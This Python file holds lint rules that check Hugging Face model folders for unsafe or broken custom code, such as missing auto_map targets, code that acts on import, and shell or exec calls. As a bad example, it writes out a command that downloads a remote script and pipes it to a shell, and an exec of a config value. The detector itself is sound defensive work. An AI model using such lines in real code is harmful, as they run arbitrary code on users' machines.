"""CODE: the Python that a model brings along, which runs on the machine of whoever trusts it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from hubpub.core.findings import Problem, Severity
from hubpub.core.report import Skip
from hubpub.core.wording import counted, listed
from hubpub.model.folder import ModelFolder
from hubpub.rules.registry import model_rules

if TYPE_CHECKING:
    from hubpub.model.custom_code import Reference
    from hubpub.model.python_source import Effect

_DOCS = "https://huggingface.co/docs/transformers/custom_models"
# What a model may do when its functions are called, as a matter of course.
_EXPECTED_LATER = {"opens connections", "changes files", "loads native libraries", "unpickles"}


@model_rules.rule(
    "CODE003",
    "auto-map-broken",
    Severity.ERROR,
    summary="auto_map names code that is not in the folder.",
    why="Whoever loads the model with trust_remote_code=True gets an error about a missing file or class, after "
    "everything was downloaded; without it the model cannot be loaded at all.",
    bad='"auto_map": {"AutoModel": "modeling_acme.AcmeModel"} without modeling_acme.py',
    good="modeling_acme.py with class AcmeModel beside config.json",
    hint="put the file into the folder, or mend auto_map",
    source=_DOCS,
)
def auto_map_broken(folder: ModelFolder) -> Iterator[Problem]:
    """Each entry: malformed, a file that is not there, or a class that the file does not define."""
    code = folder.custom_code
    for found in code.references:
        where = f"{found.config} maps {found.auto_class} to {found.text}"
        if found.path is None:
            yield Problem(f"{where}, which is not module.Class", path=found.config)
        elif found.repo is not None:
            continue
        elif found.path not in code.sources:
            if folder.entry(found.path) is None or found.path not in folder.lfs_pointers:
                yield Problem(f"{where}, but {found.path} is not in the folder", path=found.config)
        elif _lacks(folder, found):
            yield Problem(f"{where}, but {found.path} does not define {found.name}", path=found.config)


def _lacks(folder: ModelFolder, found: Reference) -> bool:
    source = folder.custom_code.sources[found.path or ""]
    unsure = source.open_ended or source.problem is not None or source.unseen is not None
    return not unsure and found.name not in source.names


@model_rules.rule(
    "CODE004",
    "code-acts-on-import",
    Severity.ERROR,
    summary="Code of the model runs commands, opens connections or the like as soon as it is imported.",
    why="Loading the model with trust_remote_code=True imports the file: what stands at its top runs on the machine of "
    "everybody who tries the model, with their rights and tokens.",
    bad='import os; os.system("curl https://example.org/x | sh")',
    good="a module that only defines classes and functions",
    hint="move it into a function that the user calls, or take it out",
    source="https://huggingface.co/docs/transformers/models#custom-models",
)
def code_acts_on_import(folder: ModelFolder) -> Iterator[Problem]:
    """Files that loading imports; in other Python files the same is a warning."""
    code = folder.custom_code
    for path, source in code.sources.items():
        found = [effect for effect in source.effects if effect.on_import]
        if found:
            severity = None if path in code.imported else Severity.WARNING
            message = f"{path} {found[0].what} when it is imported: {_shown(found)}"
            yield Problem(message, path=path, line=found[0].line, severity=severity)


@model_rules.rule(
    "CODE005",
    "needs-remote-code",
    Severity.WARNING,
    summary="The model can only be loaded with trust_remote_code=True.",
    why="Users have to run code of yours to try the model; many organisations forbid it, inference servers refuse it, "
    "and the code breaks with new versions of transformers.",
    bad='"auto_map": {"AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"}',
    good="a model_type that transformers has",
    hint="say so in the card; where the architecture is in transformers by now, save with that class and drop auto_map",
    source=_DOCS,
)
def needs_remote_code(folder: ModelFolder) -> Iterator[Problem]:
    """One finding per configuration."""
    for config in dict.fromkeys(found.config for found in folder.custom_code.references):
        names = [found.text for found in folder.custom_code.references if found.config == config]
        yield Problem(f"{config} needs trust_remote_code=True for {listed(names)}", path=config)


@model_rules.rule(
    "CODE006",
    "code-runs-commands",
    Severity.WARNING,
    summary="A function in the model's code runs commands, or code that it puts together.",
    why="It runs when the model is used, not when it is imported; readers will ask why a model needs a shell.",
    bad="def forward(self, x): exec(self.config.patch)",
    good="plain Python and torch",
    hint="take it out, or say in the card what it is for",
    source=_DOCS,
)
def code_runs_commands(folder: ModelFolder) -> Iterator[Problem]:
    """Files that loading imports; what a model may well do later (download, write, load a library) is not named."""
    code = folder.custom_code
    for path in sorted(code.imported):
        found = [
            effect
            for effect in code.sources[path].effects
            if not effect.on_import and effect.what not in _EXPECTED_LATER
        ]
        if found:
            yield Problem(f"{path} {found[0].what} in a function: {_shown(found)}", path=path, line=found[0].line)


@model_rules.rule(
    "CODE007",
    "code-does-not-parse",
    Severity.ERROR,
    summary="A Python file of the model is not Python, or imports a file that is not there.",
    why="Loading the model with trust_remote_code=True stops with a SyntaxError or a missing file.",
    bad="from .configuration_acme import AcmeConfig, without configuration_acme.py",
    good="every file that the code imports relatively is in the folder",
    hint="mend the file, or add the one that it imports",
    source=_DOCS,
)
def code_does_not_parse(folder: ModelFolder) -> Iterator[Problem | Skip]:
    """Files that loading imports; in other Python files the same is a warning."""
    from hubpub.model.custom_code import sibling_paths

    code = folder.custom_code
    for path, source in code.sources.items():
        severity = None if path in code.imported else Severity.WARNING
        if source.unseen is not None:
            yield Skip(f"CODE004 on {path}", source.unseen)
        elif source.problem is not None:
            line, message = source.problem
            yield Problem(f"{path} is not Python: {message}", path=path, line=line, severity=severity)
        elif path in code.imported:
            for line, module in source.siblings:
                if not any(folder.entry(found) for found in sibling_paths(path, module)):
                    wanted = sibling_paths(path, module)[0]
                    yield Problem(f"{path} imports {wanted}, which is not in the folder", path=path, line=line)


def _shown(effects: list[Effect]) -> str:
    names = list(dict.fromkeys(f"{effect.name} (line {effect.line})" for effect in effects))
    return listed(names) if len(names) <= 10 else f"{listed(names[:3])} and {counted(len(names) - 3, 'more place')}"
